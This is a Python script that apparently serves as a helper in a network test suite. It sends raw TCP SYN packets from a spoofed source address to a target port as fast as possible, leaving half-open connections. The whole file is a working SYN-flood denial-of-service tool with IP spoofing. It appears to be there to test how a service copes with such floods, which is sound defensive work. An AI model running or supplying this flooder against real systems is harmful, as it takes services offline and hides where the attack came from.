"""Half-open connections without end: raw TCP SYNs from a spoofed source. argv SOURCE DEST PORT
SECONDS [MAX]. Sends SYNs from SOURCE (random ports and sequence numbers) to DEST:PORT as fast as
it can for SECONDS, at most MAX (default 500,000) SYNs, then exits; the test makes sure nothing
answers SOURCE (a neighbour entry to a MAC nobody owns), so the handshakes stay half-open. Emits
`flooding` after the first 1,000 and `flooded` (count) at the end. Needs CAP_NET_RAW (root)."""
import random
import socket
import struct
import sys
import time

from peerlib import emit

SOURCE, DEST, PORT, SECONDS = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
MAX = int(sys.argv[5]) if len(sys.argv) > 5 else 500_000


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(sport, seq):
    src, dst = socket.inet_aton(SOURCE), socket.inet_aton(DEST)
    header = struct.pack("!HHIIBBHHH", sport, PORT, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(header))
    tcp = header[:16] + struct.pack("!H", checksum(pseudo + header)) + header[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0,
                     src, dst)
    return ip + tcp


raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
rng = random.Random(1)
deadline = time.monotonic() + SECONDS
count = 0
while count < MAX and time.monotonic() < deadline:
    for _ in range(100):
        raw.sendto(syn(rng.randrange(1024, 65536), rng.getrandbits(32)), (DEST, 0))
        count += 1
    if count == 1000:
        emit("flooding")
emit("flooded", count=count)
